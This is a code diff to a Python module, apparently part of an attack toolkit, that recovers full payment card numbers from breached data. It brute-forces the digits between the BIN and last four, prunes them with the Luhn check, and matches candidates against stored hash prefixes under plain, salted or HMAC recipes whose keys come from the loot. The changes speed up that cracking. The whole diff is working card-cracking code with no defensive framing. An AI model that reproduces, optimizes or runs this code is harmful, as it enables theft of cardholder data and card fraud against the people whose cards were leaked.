@@ -8,7 +8,7 @@ import functools
 import hashlib
 import hmac
 import itertools
-from collections.abc import Iterable, Iterator, Sequence
+from collections.abc import Callable, Iterable, Iterator, Sequence
 from typing import NamedTuple
 
 from attack.loot import KnownCard, Loot
@@ -29,16 +29,15 @@ class Recipe(NamedTuple):
     key: bytes | None
     salt: str
 
-    def finds(self, number: str, card: KnownCard, prefixes: set[bytes]) -> bool:
-        """Whether something is stored that this makes of a number."""
-        text = number.encode()
-        if self.salt:
-            text = (card.token if self.salt == "token" else b"%d" % card.merchant_id) + text
-        if self.key is None:
-            digest = getattr(hashlib, self.name)(text).digest()
-        else:
-            digest = hmac.digest(self.key, text, self.name)
-        return digest[:PREFIX_BYTES] in prefixes
+    def maker(self, card: KnownCard) -> Callable[[bytes], bytes]:
+        """What makes of a number the beginning of what may be stored of it."""
+        salt = {"": b"", "token": card.token, "merchant": b"%d" % card.merchant_id}[self.salt]
+        name, key, plain = self.name, self.key, getattr(hashlib, self.name)
+        if key is not None:
+            return lambda text: hmac.digest(key, salt + text, name)[:PREFIX_BYTES]
+        if salt:
+            return lambda text: plain(salt + text).digest()[:PREFIX_BYTES]
+        return lambda text: plain(text).digest()[:PREFIX_BYTES]
 
 
 def candidates(card: KnownCard) -> Iterator[str]:
@@ -49,9 +48,14 @@ def candidates(card: KnownCard) -> Iterator[str]:
         yield card.bin + card.last4[-length + len(card.bin) :]
         return
     is_doubled = len(card.last4) % 2 == 1
+    last4_sum = _luhn_sum(card.last4)
+    # By the sum of what stands before: the missing digit, and what follows it.
+    tails = [
+        f"{_HALVED[needed] if is_doubled else needed}{card.last4}"
+        for needed in (-(head_sum + last4_sum) % 10 for head_sum in range(10))
+    ]
     for head, head_sum in _heads(card.bin, unknown - 1, length):
-        needed = -(head_sum + _luhn_sum(card.last4)) % 10
-        yield f"{head}{_HALVED[needed] if is_doubled else needed}{card.last4}"
+        yield head + tails[head_sum]
 
 
 @functools.cache
@@ -59,7 +63,7 @@ def _heads(bin: str, unknown: int, length: int) -> list[tuple[str, int]]:
     """All ways to go on from a BIN, and what each adds to the sum of the check."""
     middles = map("".join, itertools.product("0123456789", repeat=unknown))
     padding = "0" * (length - len(bin) - unknown)
-    return [(bin + middle, _luhn_sum(bin + middle + padding)) for middle in middles]
+    return [(bin + middle, _luhn_sum(bin + middle + padding) % 10) for middle in middles]
 
 
 def _luhn_sum(digits: str) -> int:
@@ -78,7 +82,7 @@ def guess(loot: Loot, own_pan: str) -> set[str]:
     own = [card for card in known if own_pan.startswith(card.bin) and own_pan.endswith(card.last4)]
     found: set[str] = set()
     for recipe in _recipes(loot.possible_keys()):
-        if any(recipe.finds(own_pan, card, prefixes) for card in own):
+        if any(recipe.maker(card)(own_pan.encode()) in prefixes for card in own):
             found.update(_apply(recipe, known, prefixes))
     return found
 
@@ -102,6 +106,7 @@ def _recipes(keys: Iterable[bytes]) -> Iterator[Recipe]:
 
 def _apply(recipe: Recipe, known: Sequence[KnownCard], prefixes: set[bytes]) -> Iterator[str]:
     for card in known:
+        make = recipe.maker(card)
         for number in candidates(card):
-            if recipe.finds(number, card, prefixes):
+            if make(number.encode()) in prefixes:
                 yield number
